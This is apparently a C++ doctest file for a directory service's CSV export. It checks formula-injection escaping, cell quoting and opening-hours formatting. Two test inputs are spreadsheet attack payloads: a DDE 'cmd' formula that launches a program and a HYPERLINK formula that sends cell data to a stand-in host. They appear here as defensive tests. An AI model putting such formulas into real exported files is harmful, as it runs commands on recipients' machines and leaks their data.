#include "search/export.hpp"

#include <doctest/doctest.h>

#include <cstdint>
#include <string>
#include <vector>

using namespace annuaire::search;

namespace {

std::string csv_cell(std::string_view text) {
    std::string out;
    append_csv_text(out, text);
    return out;
}

std::string hours(const std::vector<std::uint16_t>& intervals) {
    std::string out;
    append_opening_hours(out, intervals);
    return out;
}

}  // namespace

TEST_CASE("a CSV text cell that a spreadsheet would run as a formula gets a leading apostrophe") {
    CHECK(csv_cell("=1+1") == "'=1+1");
    CHECK(csv_cell("+cmd|' /C calc'!A0") == "'+cmd|' /C calc'!A0");
    CHECK(csv_cell("-2+3") == "'-2+3");
    CHECK(csv_cell("@SUM(1)") == "'@SUM(1)");
    CHECK(csv_cell("\tx") == "'\tx");
    CHECK(csv_cell("\r=1") == "\"'\r=1\"");   // a CR is also quoted
    // Only the first character counts.
    CHECK(csv_cell("1+1=2") == "1+1=2");
    CHECK(csv_cell(" =1") == " =1");
    CHECK(csv_cell("Saint-Louis") == "Saint-Louis");
    CHECK(csv_cell("") == "");
}

TEST_CASE("a CSV text cell is quoted when it holds a separator, a quote or a line break, quotes doubled") {
    CHECK(csv_cell("a;b") == "\"a;b\"");
    CHECK(csv_cell("dit \"oui\"") == "\"dit \"\"oui\"\"\"");
    CHECK(csv_cell("ligne 1\nligne 2") == "\"ligne 1\nligne 2\"");
    CHECK(csv_cell("ligne 1\r\nligne 2") == "\"ligne 1\r\nligne 2\"");
    CHECK(csv_cell("a,b") == "a,b");
    CHECK(csv_cell("=HYPERLINK(\"http://evil.example/?\"&A1)") == "\"'=HYPERLINK(\"\"http://evil.example/?\"\"&A1)\"");
}

TEST_CASE("opening hours read day by day in week order, each day's intervals in time order") {
    constexpr std::uint16_t monday = 0, tuesday = 1440, sunday = 6 * 1440;
    CHECK(hours({}) == "");
    CHECK(hours({tuesday + 540, tuesday + 720, monday + 840, monday + 1080, monday + 510, monday + 720}) ==
          "lun 08:30-12:00 14:00-18:00; mar 09:00-12:00");
    CHECK(hours({sunday + 0, sunday + 1440}) == "dim 00:00-24:00");
}
